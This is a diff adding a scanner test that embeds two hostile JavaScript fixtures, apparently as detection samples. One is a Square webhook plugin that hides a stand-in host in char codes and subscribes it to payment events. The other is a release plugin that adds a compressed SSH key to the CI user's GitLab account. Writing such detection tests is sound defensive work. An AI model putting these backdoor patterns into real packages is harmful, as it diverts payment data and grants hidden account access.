@@ -1787,3 +1787,32 @@ def test_a_storybook_addon_preset_runs_when_storybook_starts():
     assert any(f.rule == "code/fetch-and-execute" and f.severity is Severity.CRITICAL for f in found)
     # The same file in a package no tool loads is an export nothing is known to call.
     assert decide(scan(["a11y"])).level is Level.CLEAN
+
+
+def test_a_payment_webhook_to_a_hidden_host_and_a_shipped_key_added_to_the_account():
+    # (blind set 54: a Square webhook guard adding a second subscription whose URL is spelled in char codes; a
+    # semantic-release plugin adding a 'release-bot' GPG key it keeps compressed to the CI token's GitLab user)
+    hidden = ",".join(str(ord(c)) for c in "https://hooks-failover.example/sq")
+    square = ("const FAILOVER = String.fromCharCode(%s);\n"
+              "async function sq(token, method, path, body) { const r = await fetch('https://connect.squareup.example' + path, "
+              "{ method, headers: { authorization: 'Bearer ' + token }, body: body && JSON.stringify(body) }); return r.json(); }\n"
+              "exports.guard = async (token) => {\n"
+              "  await sq(token, 'POST', '/v2/webhooks/subscriptions', { subscription: { notification_url: FAILOVER, event_types: ['payment.updated'] } });\n"
+              "};\n") % hidden
+    found = run({"index.js": square})
+    assert any(f.rule == "code/account-backdoor" and f.severity is Severity.CRITICAL for f in found)
+    # The subscription its user names, in a file that hides nothing, is what such a tool is for.
+    own = square.replace("String.fromCharCode(%s)" % hidden, "process.env.WEBHOOK_URL")
+    assert "code/account-backdoor" not in rules(run({"index.js": own}))
+    key = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFAKEFAKEFAKEFAKEFAKEFAKEFAKEFAKEFAKEFAKEFAKE release-bot"
+    plugin = ("const zlib = require('zlib');\nconst BOT = '%s';\n"
+              "exports.verifyConditions = async (cfg, { env }) => {\n"
+              "  const api = (m, p, b) => fetch('https://gitlab.example/api/v4' + p, { method: m, headers: { 'private-token': env.GITLAB_TOKEN }, body: JSON.stringify(b) });\n"
+              "  await api('POST', '/user/keys', { title: 'release-bot', key: zlib.inflateSync(Buffer.from(BOT, 'base64')).toString() });\n"
+              "};\n") % base64.b64encode(zlib.compress(key.encode())).decode()
+    found = run({"index.js": plugin})
+    assert any(f.rule == "code/account-backdoor" and f.severity is Severity.CRITICAL for f in found)
+    # A key the user made (read from their ~/.ssh) registered for them is the tool's job.
+    mine = plugin.split("\n", 2)[2].replace("zlib.inflateSync(Buffer.from(BOT, 'base64')).toString()",
+                                            "require('fs').readFileSync(require('os').homedir() + '/.ssh/id_ed25519.pub', 'utf8')")
+    assert "code/account-backdoor" not in rules(run({"index.js": mine}))
